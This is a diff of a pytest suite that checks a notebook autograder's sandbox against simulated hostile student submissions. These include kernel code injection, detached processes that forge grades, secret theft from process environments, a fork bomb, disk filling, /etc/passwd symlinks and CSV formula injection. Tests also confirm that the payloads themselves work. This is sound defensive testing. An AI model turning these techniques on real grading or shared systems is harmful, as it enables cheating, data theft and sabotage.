@@ -1128,19 +1222,41 @@ def hostile(alone, tmp_path_factory):
     run.files_later = _read_out(out)
     run.alone_later = {student: _read_out(earlier.out) for student, earlier in alone.items()}
     run.after = _machine()
-    run.survivors = _pids(MARK) + _pids(f"{grader.TEMPORARY_PREFIX}{process.pid}-")
+    run.survivors = _pids(CLASS_MARK) + _pids(f"{grader.TEMPORARY_PREFIX}{process.pid}-")
     run.temporaries = _temporaries(process.pid)
     run.manifest = json.loads(run.files[gradebook.MANIFEST])
     return run
 
 
 @pytest.fixture(scope="module")
-def later(hostile, tmp_path_factory):
-    """The honest submissions graded again, all together, after the hostile run."""
-    root = tmp_path_factory.mktemp("later")
-    for student in HONEST_STUDENTS:
-        shutil.copytree(hostile.root / student, root / student)
-    return _grade_here(root, tmp_path_factory.mktemp("later-out"))
+def scanned(alone, tmp_path_factory):
+    """Layer 1: the class graded by `python -m course_teacher.grade`, the scan on."""
+    return _once(tmp_path_factory, "scanned", lambda: _grade_class(alone, tmp_path_factory, scanned=True))
+
+
+@pytest.fixture(scope="module")
+def unscanned(alone, tmp_path_factory):
+    """Layer 2: the honest submissions and the attacks graded with the scan off (UNSCANNED)."""
+    return _once(tmp_path_factory, "unscanned", lambda: _grade_class(alone, tmp_path_factory, scanned=False))
+
+
+@pytest.fixture(scope="module")
+def later(scanned, unscanned, tmp_path_factory):
+    """The honest submissions graded again, all together, after both hostile runs."""
+
+    def make():
+        root = tmp_path_factory.mktemp("later")
+        for student in HONEST_STUDENTS:
+            shutil.copytree(unscanned.root / student, root / student)
+        return _grade_here(root, tmp_path_factory.mktemp("later-out"))
+
+    return _once(tmp_path_factory, "later", make)
+
+
+@pytest.fixture(params=LAYERS)
+def layer(request):
+    """A test of what both layers must hold: the run of each in turn."""
+    return request.getfixturevalue(request.param)
 
 
 def _keys(run, student):
@@ -1157,14 +1273,17 @@ def _honest_files(run, student):
     return {name: run.files[f"{gradebook.safe_folder(key)}/{name}"] for name in ("result.json", "feedback.md")}
 
 
-def _review(run, student, *expected):
+def _review(run, label, *expected):
     """Every exercise 0 for review (nothing ran), the cell and the code named in CSV and feedback."""
+    student = STUDENTS[label]
     rows = run.rows(student)
     assert rows and all((r["status"], r["mistake"], r["points"]) == ("failed", "REVIEW", "0") for r in rows), rows
     for text in expected:
-        assert all(text in r["review"] for r in rows), rows
+        assert all(text in r["review"] for r in rows), (text, rows)
+    facts = run.facts[student]
+    cell = (facts["cells"] or [facts["exercises"]["00.padding_mask"]])[0]
     feedback = run.feedback(_keys(run, student)[0])
-    assert "for the teacher's review" in feedback and "Cell 44" in feedback, feedback
+    assert "for the teacher's review" in feedback and f"Cell {cell} (" in feedback, feedback
 
 
 def _tests_of(run, student):
@@ -1172,17 +1291,49 @@ def _tests_of(run, student):
     return run.tests(key)
 
 
+def _proof(run, label, number):
+    """What an attack's cell found, from its feedback: the proof that it ran (in the sandbox)."""
+    student = STUDENTS[label]
+    feedback = run.feedback(_keys(run, student)[0])
+    proof = f"HOSTILE-{number} ran: "
+    assert proof in feedback, feedback
+    found = feedback[feedback.index(proof) + len(proof):].split("\n")[0]
+    return found.split(" The grader skipped it")[0].removesuffix(".")  # a cell's note ends so
+
+
 ALL_PASSED = {e: ("passed", "", 1) for e in ("00.padding_mask", "00.scores_einsum", "00.split_heads", "00.merge_heads")}
+# The proof's name of each attack, and the attacks that run in each layer.
+NUMBERS = {"h01-grader-files": 1, "h02-startup": 2, "h03-inject": 3, "h04-outlive": 4, "h05-kill": 5,
+           "h06-environ": 6, "h07-reach": 7, "h08-solutions": 8, "h11-fork-bomb": "11-fork",
+           "h11-memory": "11-memory", "h11-disk": "11-disk", "h11-answers": "11-answers"}
+
+
+REVIEWED = {  # label: what the review column names (the scan's words), for the code the scan cannot read
+    "h03-inject": ("os.fork() (cell 44)", "from jupyter_client import BlockingKernelClient (cell 44)"),
+    "h04-outlive": ("os.fork() (cell 44)",),
+    "h07-reach": ("from course_teacher.exercises import EXERCISES (cell 44)",),
+    "h08-solutions": ("exec('import torch\\n' + ''.join(cell['source']), namespace) (cell 44)",),
+    "h11-fork-bomb": ("os.fork() (cell 44)",),
+    "h11-memory": ("os.fork() (cell 44)",),
+    "h11-answers": ("import course_utils.exercises.wire as wire (cell 44)",),
+    "h07-registry": ("from course_teacher.exercises import EXERCISES (cell 44)",),
+    "h07-importlib": ("import importlib (cell 44)",),
+    "h07-private": ("from course_utils.exercises.l06_transformer import",),
+    "h12-subprocess": ("import subprocess, sys (cell 44)",),
+    "h12-ctypes": ("import ctypes (cell 44)",),
+    "h12-module": ("import helpers (cell 44)", "sys.path.insert(0, os.path.expanduser('~')) (cell 44)"),
+}
 
 
 # ----------------------------------------------------------------------------- (a) the neighbours
 
-def test_the_honest_submissions_are_graded_in_the_class_as_they_are_alone(alone, hostile):
-    assert hostile.code == 0, hostile.printed + hostile.stderr  # every submission graded, the grader alive
-    assert f"graded {len(CLASS) + len(NAMED) + 1} submission(s)" in hostile.printed  # 24-h09-result: two notebooks
+def test_the_honest_submissions_are_graded_in_each_layer_as_they_are_alone(alone, layer):
+    assert layer.code == 0, layer.printed + layer.stderr  # every submission graded, the grader alive
+    two = STUDENTS["h09-result"] in layer.facts  # 21-h09-result: two notebooks
+    assert f"graded {len(layer.facts) + two} submission(s)" in layer.printed
     for student, run in alone.items():
-        assert _honest_files(hostile, student) == _honest_files(run, student), student
-        assert hostile.rows(student) == run.rows(student), student
+        assert _honest_files(layer, student) == _honest_files(run, student), student
+        assert layer.rows(student) == run.rows(student), student
     scores = {student: run.result(_key(student))["score"] for student, run in alone.items()}
     assert scores == {STUDENTS["ann"]: 4, STUDENTS["bo"]: 4, STUDENTS["kim"]: 2, STUDENTS["li"]: 3,
                       STUDENTS["pat"]: 2, STUDENTS["ula"]: 3}
@@ -1190,12 +1341,42 @@ def test_the_honest_submissions_are_graded_in_the_class_as_they_are_alone(alone,
                                                                                      "RESHAPE_NO_PERMUTE"}
 
 
-def test_a_later_run_gives_the_same_bytes_again(alone, hostile, later):
-    """What the hostile run left behind (files, processes, a startup file, ...) changes nothing later."""
+def test_a_later_run_gives_the_same_bytes_again(alone, later):
+    """What the hostile runs left behind (files, processes, a startup file, ...) changes nothing later."""
     assert later.code == 0, later.printed
     for student, run in alone.items():
         assert _honest_files(later, student) == _honest_files(run, student), student
         assert later.rows(student) == run.rows(student), student
+
+
+# ----------------------------------------------------------------------------- the two layers
+
+def test_scan_on_code_it_cannot_read_is_for_review_and_nothing_of_it_runs(scanned):
+    """The attacks that fork, exec, start processes, load C, reach the grading machinery or write a
+    module to import: every exercise 0 for the teacher's review, the cell named, no proof of a run."""
+    assert set(ATTACKS) - SCAN_LETS_RUN <= set(REVIEWED)
+    for label, constructs in REVIEWED.items():
+        _review(scanned, label, *constructs)
+        assert "HOSTILE-" not in scanned.feedback(_keys(scanned, STUDENTS[label])[0]), label
+
+
+def test_scan_on_the_attacks_it_lets_through_run_and_only_those(scanned):
+    for label in ATTACKS:
+        rows = scanned.rows(STUDENTS[label])
+        if label in SCAN_LETS_RUN:
+            assert not {r["mistake"] for r in rows} & {"REVIEW", "FORBIDDEN"} and not any(r["review"] for r in rows)
+            _proof(scanned, label, NUMBERS[label])
+        else:
+            assert {r["mistake"] for r in rows} == {"REVIEW"}, (label, rows)
+
+
+def test_scan_off_nothing_is_for_review_and_every_attack_runs(unscanned):
+    """The scan really was off (the attacks it reviews in layer 1 ran), and each left its proof."""
+    assert {r["mistake"] for r in unscanned.rows()} & {"REVIEW", "FORBIDDEN"} == set()
+    assert not any(r["review"] for r in unscanned.rows())
+    assert {STUDENTS[label] for label in ATTACKS} <= set(unscanned.facts)
+    for label in ATTACKS:
+        _proof(unscanned, label, NUMBERS[label])
 
 
 # ----------------------------------------------------------------------------- (c) nothing survives
@@ -1211,114 +1392,111 @@ def _changed(before, after):
     return [path for path in changed if not Path(path).exists() or b"HOSTILE-" in Path(path).read_bytes()]
 
 
-def test_nothing_of_the_attacks_survives_the_run(hostile):
-    assert hostile.survivors == [], [_cmdline(pid) for pid in hostile.survivors]
-    assert hostile.temporaries == [], "the run's temporary folder is left"
+def test_nothing_of_the_attacks_survives_the_run(layer):
+    assert layer.survivors == [], [_cmdline(pid) for pid in layer.survivors]
+    assert layer.temporaries == [], "the run's temporary folder is left"
     assert _temporaries(os.getpid()) == [], "a run in this process left its temporary folder"
-    for what, before in hostile.before.items():
-        assert _changed(before, hostile.after[what]) == [], what
+    for what, before in layer.before.items():
+        assert _changed(before, layer.after[what]) == [], what
 
 
-def test_the_output_folder_holds_what_the_gradebook_wrote_and_what_the_teacher_planted(hostile):
-    assert hostile.manifest["complete"] is True
-    assert set(hostile.files) == set(hostile.manifest["files"]) | {gradebook.MANIFEST, "notes.txt"}
-    assert hostile.files["notes.txt"] == PLANTED_NOTE
-    assert hostile.files_later == hostile.files, "the output folder changed after the run"
-    assert not [name for name in hostile.files if name.endswith(".part")]
+def test_the_output_folder_holds_what_the_gradebook_wrote_and_what_the_teacher_planted(layer):
+    assert layer.manifest["complete"] is True
+    assert set(layer.files) == set(layer.manifest["files"]) | {gradebook.MANIFEST, "notes.txt"}
+    assert layer.files["notes.txt"] == PLANTED_NOTE
+    assert layer.files_later == layer.files, "the output folder changed after the run"
+    assert not [name for name in layer.files if name.endswith(".part")]
 
 
 # ----------------------------------------------------------------------------- (b) each class
 
-def test_01_the_grader_files_stay_as_they_were(hostile):
+def test_01_the_grader_files_stay_as_they_were(layer):
     student = STUDENTS["h01-grader-files"]
-    assert _tests_of(hostile, student) == ALL_PASSED  # right answers, and an attack that wrote nothing
-    notes = _notes(hostile, _keys(hostile, student)[0])
-    (cell,) = hostile.facts[student]["cells"]
+    assert _tests_of(layer, student) == ALL_PASSED  # right answers, and an attack that wrote nothing
+    notes = _notes(layer, _keys(layer, student)[0])
+    (cell,) = layer.facts[student]["cells"]
     assert f"Cell {cell} (" in notes and "HOSTILE-1 ran: written=0 " in notes, notes
     for what in ("grader files", "site hooks"):
-        assert _changed(hostile.before[what], hostile.after[what]) == [], what
+        assert _changed(layer.before[what], layer.after[what]) == [], what
 
 
-def test_02_a_startup_file_stays_in_the_kernels_own_home(hostile):
+def test_02_a_startup_file_stays_in_the_kernels_own_home(layer):
     student = STUDENTS["h02-startup"]
     # scores_einsum passes in the fresh kernel started after the second cell killed the first: that
     # kernel read no startup file
-    assert _tests_of(hostile, student) == ALL_PASSED
-    notes = _notes(hostile, _keys(hostile, student)[0])
+    assert _tests_of(layer, student) == ALL_PASSED
+    notes = _notes(layer, _keys(layer, student)[0])
     assert f"HOSTILE-2 ran: written=1 in {sandbox.HOME}/.ipython/profile_default/startup " in notes, notes
-    assert f"kernel died while cell {hostile.facts[student]['cells'][1]} " in notes, notes
-    assert _changed(hostile.before["IPython startup files"], hostile.after["IPython startup files"]) == []
+    assert f"kernel died while cell {layer.facts[student]['cells'][1]} " in notes, notes
+    assert _changed(layer.before["IPython startup files"], layer.after["IPython startup files"]) == []
 
 
-def test_03_no_kernel_reaches_another(hostile):
+def test_03_no_kernel_reaches_another(unscanned):
     student = STUDENTS["h03-inject"]
-    assert _tests_of(hostile, student) == ALL_PASSED
-    notes = _notes(hostile, _keys(hostile, student)[0])
-    assert "HOSTILE-3 ran: others=0 injected=0" in notes, notes  # no connection file but its own, anywhere
-    assert not _pids(f"{MARK}-3")
-    _review(hostile, STUDENTS["h03-inject-plain"], "import subprocess, sys (cell 44)")
+    assert _tests_of(unscanned, student) == ALL_PASSED
+    # no connection file but its own, anywhere; and its detached process, which kept looking, died
+    assert _proof(unscanned, "h03-inject", 3) == "others=0 injected=0"
+    assert not _pids(f"{CLASS_MARK}-3")
 
 
-def test_04_nothing_outlives_the_grader_to_rewrite_the_grades(hostile):
-    assert time.time() > hostile.until + 3  # the time the attack waited for has come, and gone
+def test_04_nothing_outlives_the_grader_to_rewrite_the_grades(unscanned):
+    assert time.time() > unscanned.until + 3  # the time the attack waited for has come, and gone
     student = STUDENTS["h04-outlive"]
-    assert _tests_of(hostile, student) == ALL_PASSED
-    notes = _notes(hostile, _keys(hostile, student)[0])
-    assert "HOSTILE-4 ran: gradebook_files_seen=0" in notes, notes
-    assert not _pids(f"{MARK}-4")
-    assert hostile.files_later == hostile.files
-    for student, files in hostile.alone_later.items():
+    assert _tests_of(unscanned, student) == ALL_PASSED
+    assert _proof(unscanned, "h04-outlive", 4) == "gradebook_files_seen=0"
+    assert not _pids(f"{CLASS_MARK}-4")
+    assert unscanned.files_later == unscanned.files
+    for student, files in unscanned.alone_later.items():
         assert b"HOSTILE-4" not in b"".join(files.values()), student
-    _review(hostile, STUDENTS["h04-outlive-plain"], "os.fork() (cell 44)")
 
 
-def test_05_killing_every_process_in_sight_kills_only_its_own_kernel(hostile):
+def test_05_killing_every_process_in_sight_kills_only_its_own_kernel(layer):
     student = STUDENTS["h05-kill"]
-    assert _tests_of(hostile, student) == ALL_PASSED  # the grader restarted its kernel and went on
-    notes = _notes(hostile, _keys(hostile, student)[0])
+    assert _tests_of(layer, student) == ALL_PASSED  # the grader restarted its kernel and went on
+    notes = _notes(layer, _keys(layer, student)[0])
     assert "HOSTILE-5 ran: " in notes and " wrote=0 killed=0 groups=0 " in notes, notes
-    assert f"kernel died while cell {hostile.facts[student]['cells'][1]} " in notes, notes
-    assert hostile.code == 0 and "graded" in hostile.printed  # the grader itself lived
+    assert f"kernel died while cell {layer.facts[student]['cells'][1]} " in notes, notes
+    assert layer.code == 0 and "graded" in layer.printed  # the grader itself lived
 
 
-def test_06_the_graders_secret_is_in_no_output(hostile):
+def test_06_the_graders_secret_is_in_no_output(layer):
     secret = SECRET[1].encode()
-    for name, content in {**hostile.files, **hostile.files_later}.items():
+    for name, content in {**layer.files, **layer.files_later}.items():
         assert secret not in content, name
-    assert SECRET[1] not in hostile.printed + hostile.stderr
+    assert SECRET[1] not in layer.printed + layer.stderr
     student = STUDENTS["h06-environ"]
-    key = _keys(hostile, student)[0]
-    notes = _notes(hostile, key)
+    key = _keys(layer, student)[0]
+    notes = _notes(layer, key)
     assert "HOSTILE-6 ran: read=" in notes and "found=none" in notes, notes
     # its function raised with every variable of its environment: none of the grader's
-    (status, mistake, _) = _tests_of(hostile, student)["00.padding_mask"]
+    (status, mistake, _) = _tests_of(layer, student)["00.padding_mask"]
     assert (status, mistake) == ("crashed", "RuntimeError")
-    message = next(t["message"] for t in hostile.result(key)["tests"] if t["test-name"] == "00.padding_mask")
+    message = next(t["message"] for t in layer.result(key)["tests"] if t["test-name"] == "00.padding_mask")
     assert f"HOME={sandbox.HOME}" in message and SECRET[0] not in message, message
 
 
-def test_07_the_answers_are_out_of_reach(hostile):
-    for label, construct in (("h07-registry", "from course_teacher.exercises import EXERCISES (cell 44)"),
-                             ("h07-importlib", "import importlib (cell 44)"),
-                             ("h07-private", "from course_utils.exercises.l06_transformer import")):
-        _review(hostile, STUDENTS[label], construct)
-    code_object = {r["exercise"]: r["mistake"] for r in hostile.rows(STUDENTS["h07-code-object"])}
+def test_07_the_answers_are_out_of_reach(unscanned):
+    """Run, the registry and the old private reference are not in the sandbox at all."""
+    reach = _tests_of(unscanned, STUDENTS["h07-reach"])
+    assert reach == {**ALL_PASSED, "00.padding_mask": ("crashed", "CELL_ERROR", 0)}
+    assert _proof(unscanned, "h07-reach", 7).startswith(
+        "course_teacher=ModuleNotFoundError private=ModuleNotFoundError")
+
+
+def test_07_the_scan_scores_a_forbidden_function_reached_0(scanned):
+    code_object = {r["exercise"]: r["mistake"] for r in scanned.rows(STUDENTS["h07-code-object"])}
     assert code_object == {"00.padding_mask": "REVIEW", "00.scores_einsum": "REVIEW", "00.split_heads": "FORBIDDEN",
                            "00.merge_heads": "REVIEW"}
-    assert all(r["review"] == "split_heads.__code__ (cell 55)" for r in hostile.rows(STUDENTS["h07-code-object"]))
-    disable = _tests_of(hostile, STUDENTS["h07-disable"])
+    cell = scanned.facts[STUDENTS["h07-code-object"]]["exercises"]["00.split_heads"]
+    assert all(r["review"] == f"split_heads.__code__ (cell {cell})" for r in scanned.rows(STUDENTS["h07-code-object"]))
+    disable = _tests_of(scanned, STUDENTS["h07-disable"])
     assert disable == {**ALL_PASSED, "00.split_heads": ("failed", "FORBIDDEN", 0),
                        "00.merge_heads": ("failed", "FORBIDDEN", 0)}
-    feedback = hostile.feedback(_keys(hostile, STUDENTS["h07-disable"])[0])
+    feedback = scanned.feedback(_keys(scanned, STUDENTS["h07-disable"])[0])
     assert "uses `course_utils.multihead.merge_heads`, which this exercise forbids" in feedback, feedback
-    helpers = _tests_of(hostile, STUDENTS["h07-helpers"])
+    helpers = _tests_of(scanned, STUDENTS["h07-helpers"])
     assert helpers == {"02.causal_mask": ("failed", "FORBIDDEN", 0), "02.decoder_mask": ("passed", "", 1),
                        "02.masked_softmax": ("failed", "FORBIDDEN", 0)}
-    # smuggled past the scan, the registry and the old private reference are not in the sandbox at all
-    reach = _tests_of(hostile, STUDENTS["h07-reach"])
-    assert reach == {**ALL_PASSED, "00.padding_mask": ("crashed", "CELL_ERROR", 0)}
-    feedback = hostile.feedback(_keys(hostile, STUDENTS["h07-reach"])[0])
-    assert "HOSTILE-7 ran: course_teacher=ModuleNotFoundError private=ModuleNotFoundError" in feedback, feedback
 
 
 def test_07_the_old_private_references_are_gone():
@@ -1329,101 +1507,103 @@ def test_07_the_old_private_references_are_gone():
     assert not [p for p in package.rglob("*.py") if "_masks_reference" in p.read_text(encoding="utf-8")]
 
 
-def test_08_no_solution_notebook_or_history_is_in_reach(hostile):
+def test_08_no_solution_notebook_or_history_is_in_reach(unscanned):
     student = STUDENTS["h08-solutions"]
-    tests = _tests_of(hostile, student)
-    assert tests["00.padding_mask"] == ("crashed", "CELL_ERROR", 0) and hostile.result(
-        _keys(hostile, student)[0])["score"] == 0
-    feedback = hostile.feedback(_keys(hostile, student)[0])
+    tests = _tests_of(unscanned, student)
+    assert tests["00.padding_mask"] == ("crashed", "CELL_ERROR", 0) and unscanned.result(
+        _keys(unscanned, student)[0])["score"] == 0
     # bwrap itself names course_teacher's launch.py in its command line: the grader is not in sight
-    assert "HOSTILE-8 ran: solutions=0 notebooks=0 history=0 " in feedback, feedback
-    _review(hostile, STUDENTS["h08-solutions-plain"], "exec(''.join(cell['source'])) (cell 44)")
+    assert _proof(unscanned, "h08-solutions", 8).startswith("solutions=0 notebooks=0 history=0 ")
 
 
-def test_09_links_pipes_and_misnamed_notebooks_are_reported_not_read(hostile):
+def test_09_links_pipes_and_misnamed_notebooks_are_reported_not_read(scanned):
     link, special = submission.reason("NOT_REGULAR", "en", "link"), submission.reason("NOT_REGULAR", "en", "special")
     for label, why in (("h09-link-solution", link), ("h09-link-student", link), ("h09-dev-zero", link),
                        ("h09-passwd", link)):
-        rows = hostile.rows(STUDENTS[label])
+        rows = scanned.rows(STUDENTS[label])
         assert [(r["exercise"], r["status"], r["mistake"]) for r in rows] == [
             (e, "crashed", "NOT_REGULAR") for e in ALL_PASSED], rows
-        assert why in hostile.feedback(_keys(hostile, STUDENTS[label])[0])
-    fifo = hostile.rows(STUDENTS["h09-fifo"])
+        assert why in scanned.feedback(_keys(scanned, STUDENTS[label])[0])
+    fifo = scanned.rows(STUDENTS["h09-fifo"])
     assert [(r["lesson"], r["exercise"], r["status"], r["mistake"], r["max_points"]) for r in fifo] == [
         ("", "", "crashed", "NOT_REGULAR", "0")]
-    assert special in hostile.feedback(f"{STUDENTS['h09-fifo']}/x")
-    wrong = hostile.rows(STUDENTS["h09-lesson-06"])
+    assert special in scanned.feedback(f"{STUDENTS['h09-fifo']}/x")
+    wrong = scanned.rows(STUDENTS["h09-lesson-06"])
     assert {(r["lesson"], r["status"], r["mistake"]) for r in wrong} == {("06", "failed", "WRONG_LESSON")}
     assert len(wrong) == 3
     # a notebook named result.json, in a folder named like another notebook's output: each its own files
     student = STUDENTS["h09-result"]
-    assert _keys(hostile, student) == [student, f"{student}/result.json"]
-    assert all(hostile.result(key)["score"] == 4 for key in _keys(hostile, student))
+    assert _keys(scanned, student) == [student, f"{student}/result.json"]
+    assert all(scanned.result(key)["score"] == 4 for key in _keys(scanned, student))
     assert gradebook.safe_folder(f"{student}/result.json").startswith(f"{student}/result.json~")
-    assert f"{student}/result.json" in hostile.files  # the first's result, a file, beside the second's folder
-    for name, content in hostile.files.items():
+    assert f"{student}/result.json" in scanned.files  # the first's result, a file, beside the second's folder
+    for name, content in scanned.files.items():
         assert PASSWD_FIRST.encode() not in content, name
 
 
-def test_10_names_and_messages_from_submissions_stay_inert(hostile):
-    rows = list(csv.reader(io.StringIO(hostile.files["grades.csv"].decode())))
+def test_10_names_and_messages_from_submissions_stay_inert(scanned):
+    rows = list(csv.reader(io.StringIO(scanned.files["grades.csv"].decode())))
     assert all(len(row) == 9 for row in rows)
     formula = [row for row in rows if row[0].startswith("'=cmd")]
     assert len(formula) == 4 and all(row[7].startswith("'=cmd") for row in formula)
     assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
     assert {row[0] for row in formula} == {gradebook.csv_cell(CMD)} == {"'" + CMD}
-    assert hostile.tests(f"{CMD}/00_tensor_shapes") == ALL_PASSED
+    assert scanned.tests(f"{CMD}/00_tensor_shapes") == ALL_PASSED
     folder = gradebook.safe_folder(f"{CMD}/00_tensor_shapes")
-    assert not set(folder) & set("=|'!") and f"{folder}/result.json" in hostile.files
+    assert not set(folder) & set("=|'!") and f"{folder}/result.json" in scanned.files
     # a name with line breaks and HTML, and a function whose error forges a verdict and a score
     student = gradebook.clean_line(HTML)
-    (html_row,) = {r["student"] for r in hostile.rows(student)}
+    (html_row,) = {r["student"] for r in scanned.rows(student)}
     assert "\n" not in html_row and html_row == student
-    assert _keys(hostile, student) == [gradebook.clean_line(f"{HTML}/00_tensor_shapes")]
+    assert _keys(scanned, student) == [gradebook.clean_line(f"{HTML}/00_tensor_shapes")]
     key = f"{HTML}/00_tensor_shapes"  # the files' folder comes from the key itself, made safe
     assert "\n" not in gradebook.safe_folder(key) and "<" not in gradebook.safe_folder(key)
-    assert hostile.tests(key)["00.padding_mask"] == ("crashed", "ValueError", 0)
-    assert hostile.result(key)["score"] == 3
-    feedback = hostile.feedback(key)
+    assert scanned.tests(key)["00.padding_mask"] == ("crashed", "ValueError", 0)
+    assert scanned.result(key)["score"] == 3
+    feedback = scanned.feedback(key)
     headings = [line for line in feedback.splitlines() if line.startswith("#")]
     assert headings[0].startswith("# Feedback on ") and headings[1:] == [
         f"## {e} ({p} / 1)" for e, p in zip(ALL_PASSED, (0, 1, 1, 1))], headings
     assert "<img" not in feedback and "<b>" not in feedback and "&lt;img" in feedback
 
 
-def test_11_resource_attacks_stay_in_their_sandbox(hostile):
-    for label in ("h11-fork-bomb", "h11-memory", "h11-disk"):
-        assert _tests_of(hostile, STUDENTS[label]) == ALL_PASSED, label
-    fork = _notes(hostile, _keys(hostile, STUDENTS["h11-fork-bomb"])[0])
-    assert "HOSTILE-11-fork ran: children=" in fork, fork
+def test_11_resource_attacks_stay_in_their_sandbox(unscanned):
+    for label in ("h11-fork-bomb", "h11-memory"):
+        assert _tests_of(unscanned, STUDENTS[label]) == ALL_PASSED, label
+    fork = _proof(unscanned, "h11-fork-bomb", "11-fork")
     if os.geteuid() == 0:  # the kernel has a uid of its own, and NPROC holds it
         children = int(fork.split("children=")[1].split()[0])
         assert "error=EAGAIN" in fork and children < 256, fork
-    memory = _notes(hostile, _keys(hostile, STUDENTS["h11-memory"])[0])
-    assert "HOSTILE-11-memory ran: processes=4 each=512MB exit_codes=[0, 0, 0, 0]" in memory, memory
-    disk = _notes(hostile, _keys(hostile, STUDENTS["h11-disk"])[0])
-    assert "HOSTILE-11-disk ran: written_mb=" in disk, disk
+    assert _proof(unscanned, "h11-memory", "11-memory").startswith("processes=4 each=512MB exit_codes=[0, 0, 0, 0]")
     # answers planted as a link to /dev/zero, a pipe and a link to /etc/passwd: refused, not read, not waited for
     student = STUDENTS["h11-answers"]
-    assert _tests_of(hostile, student) == {"00.padding_mask": ("crashed", "NO_RESULT", 0),
-                                           "00.scores_einsum": ("crashed", "NO_RESULT", 0),
-                                           "00.split_heads": ("crashed", "NO_RESULT", 0),
-                                           "00.merge_heads": ("passed", "", 1)}
-    feedback = hostile.feedback(_keys(hostile, student)[0])
+    assert _tests_of(unscanned, student) == {"00.padding_mask": ("crashed", "NO_RESULT", 0),
+                                             "00.scores_einsum": ("crashed", "NO_RESULT", 0),
+                                             "00.split_heads": ("crashed", "NO_RESULT", 0),
+                                             "00.merge_heads": ("passed", "", 1)}
+    feedback = unscanned.feedback(_keys(unscanned, student)[0])
     assert "(no answer file)" in feedback and "(an answer that is not a regular file)" in feedback, feedback
-    assert "HOSTILE-11-answers ran: answers planted" in feedback
+    assert _proof(unscanned, "h11-answers", "11-answers").startswith("answers planted")
 
 
-def test_11_a_kernel_cannot_fill_the_disk_its_working_folder_is_on(hostile):
-    """The kernel's working folder is the grader's temporary folder on the host's disk, bound into the
-    sandbox (sandbox.py: --bind folder WORK) with no size cap: only RLIMIT_FSIZE, per file. /tmp and
-    HOME are capped (sandbox.TMP_BYTES); the working folder is not, so one submission can fill the
-    disk the grader writes every other submission's calls, answers and gradebook files to. The
-    attack writes 48 MB files up to 2 * TMP_BYTES; a capped folder stops it before."""
-    disk = _notes(hostile, _keys(hostile, STUDENTS["h11-disk"])[0])
-    written = int(disk.split("written_mb=")[1].split()[0])
-    assert "error=none" not in disk and written < 2 * sandbox.TMP_BYTES // 2**20, (
-        f"a kernel wrote {written} MB into its working folder unhindered: {disk}")
+CAPS = {sandbox.CWD: 0, sandbox.HOME: sandbox.HOME_BYTES, "/tmp": sandbox.TMP_BYTES, "/dev/shm": sandbox.SHM_BYTES,
+        sandbox.WORK: sandbox.WORK_BYTES}
+
+
+def test_11_a_kernel_fills_only_its_own_capped_memory_folders(layer):
+    """Every folder the kernel may write is read-only (its working folder) or a memory file system of
+    its own with a size cap (sandbox.py): the attack, which writes 48 MB files up to 512 MB in each,
+    stops at each cap, and nothing reaches the host's disk."""
+    found = {}
+    for item in _proof(layer, "h11-disk", "11-disk").split():
+        folder, outcome = item.rsplit("=", 1)
+        written, error = outcome.split(":")
+        found[folder] = (int(written[:-len("MB")]) * 2**20, error)
+    assert set(found) == set(CAPS), found
+    for folder, (written, error) in found.items():
+        assert written <= CAPS[folder] and error in ("ENOSPC", "EROFS", "EFBIG"), (folder, found)
+    assert found[sandbox.CWD] == (0, "EROFS")
+    assert _tests_of(layer, STUDENTS["h11-disk"]) == ALL_PASSED
 
 
 # ----------------------------------------------------------------------------- the payloads work
@@ -1443,6 +1623,11 @@ def test_payload_1_appends_to_every_grader_file_it_can_write(tmp_path):
                                             str(ROOT / "course_utils/exercises/kernel.py"),
                                             str(ROOT / "course_utils/exercises/grading.py")}
     assert all(Path(t).read_text().endswith(attack["SABOTAGE"]) for t in targets)
+    # and the site-packages it aims at by default are this venv's, where Python's start-up hooks are
+    import site
+
+    defaults = {os.path.dirname(t) for t in attack["targets"]() if t.endswith("sitecustomize.py")}
+    assert set(site.getsitepackages()) & defaults, defaults
 
 
 def test_payload_2_writes_an_ipython_startup_file_in_home(tmp_path):
@@ -1458,7 +1643,7 @@ def test_payload_3_finds_another_kernel_and_runs_code_in_it(tmp_path):
     victim.folder.mkdir(parents=True)
     victim.start()
     try:
-        attack = _load_payload(INJECT, "inject", smuggled=True)
+        attack = _load_payload(INJECT, "inject")
         report = attack["attack"]([str(tmp_path)], code="HOSTILE_3_INJECTED = 42", proc=False)
         assert report == "others=1 injected=1"
         assert victim.run("assert HOSTILE_3_INJECTED == 42", 30).ok
@@ -1472,11 +1657,27 @@ def test_payload_4_rewrites_the_gradebooks_it_finds(tmp_path):
     (out / "grades.csv").write_text("student\nalice\n")
     (out / "alice" / "00" / "result.json").write_text('{"score": 1}')
     (out / gradebook.MANIFEST).write_text(json.dumps({"complete": True}))
-    attack = _load_payload(OUTLIVE, "outlive", smuggled=True)
+    attack = _load_payload(OUTLIVE, "outlive")
     assert attack["complete"]([str(tmp_path)])
     attack["outlive"](time.time() + 60, time.time(), [str(tmp_path)])  # not yet its time: the complete run
     assert (out / "grades.csv").read_text() == attack["FORGED"]["grades.csv"]
     assert (out / "alice" / "00" / "result.json").read_text() == attack["FORGED"]["result.json"]
+
+
+def test_payload_detach_leaves_a_process_that_outlives_its_starter(tmp_path):
+    """detach (in the payloads of classes 3 and 4, and the killed graders' sleeper) leaves a process
+    of another session, the marker in its argv, running the payload's entry once its starter is gone."""
+    marker, done = f"{MARK}-detach-{uuid.uuid4().hex[:8]}", tmp_path / "done"
+    script = (f"{_payload(SLEEPER)}\nSOURCE = {_payload(SLEEPER)!r}\n"
+              f"detach({marker!r}, 'sleep', 30)\nopen({str(done)!r}, 'w').close()")
+    subprocess.run([sys.executable, "-c", script], check=True, timeout=30)
+    try:
+        assert done.exists() and _eventually(lambda: _pids(marker), 10)
+        (pid,) = _pids(marker)
+        assert os.getsid(pid) != os.getsid(0)
+    finally:
+        for pid in _pids(marker):
+            os.kill(pid, signal.SIGKILL)
 
 
 def test_payload_5_writes_to_a_processs_stdout_and_kills_it():
@@ -1503,7 +1704,7 @@ def test_payload_6_reads_a_secret_in_another_processs_environment():
 
 
 def test_payload_7_returns_the_reference_where_course_teacher_is_importable():
-    stolen = _load_payload(REFERENCES, "references", smuggled=True)["stolen"]
+    stolen = _load_payload(REFERENCES, "references")["stolen"]
 
     def padding_mask(lengths, max_len):
         raise NotImplementedError
@@ -1520,7 +1721,7 @@ def test_payload_8_finds_the_solutions_other_notebooks_and_the_history(tmp_path)
     with sqlite3.connect(home / ".ipython" / "profile_default" / "history.sqlite") as db:
